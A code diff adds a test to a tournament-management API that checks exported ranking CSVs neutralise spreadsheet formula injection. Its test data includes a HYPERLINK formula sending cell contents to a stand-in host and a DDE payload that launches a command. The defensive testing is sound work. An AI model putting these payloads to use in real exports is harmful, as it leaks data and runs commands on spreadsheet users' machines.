@@ -420,3 +420,21 @@ def test_an_export_never_opens_another_tournaments_table(client, cup):
     r = client.get(f"{API}/tournaments/{pub}/export/sheets.pdf", params={"table": cup["table"]})
     assert r.status_code == 404, r.status_code
     assert client.get(f"{API}/tournaments/{pub}/export/sheets.pdf", params={"table": own}).status_code == 200
+
+
+def test_an_exported_csv_runs_no_formula(client, cup):
+    """Attacker's pass (merged): a player registered as ``=HYPERLINK(...)`` (names are often pasted from
+    a sign-up form) came out of ranking.csv as a live spreadsheet formula; text cells are defused."""
+    H = cup["H"]
+    t = client.post(f"{API}/tournaments", headers=H, json={"name": "Csv", "game": "doppelkopf", "rounds": 1}).json()
+    tid = t["tournament"]["id"]
+    evil = ['=HYPERLINK("http://x.invalid/?"&A1,"klick")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]
+    players = [{"name": n, "club": "=1+1"} for n in evil]
+    assert client.post(f"{API}/tournaments/{tid}/players", headers=H, json=players).status_code == 201
+    text = client.get(f"{API}/tournaments/{tid}/export/ranking.csv", headers=H).text
+    import csv as _csv
+    import io
+    cells = [c for row in _csv.reader(io.StringIO(text)) for c in row]
+    assert not any(c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())
+                   for c in cells), cells
+    assert "'" + evil[0] in cells and "'=1+1" in cells
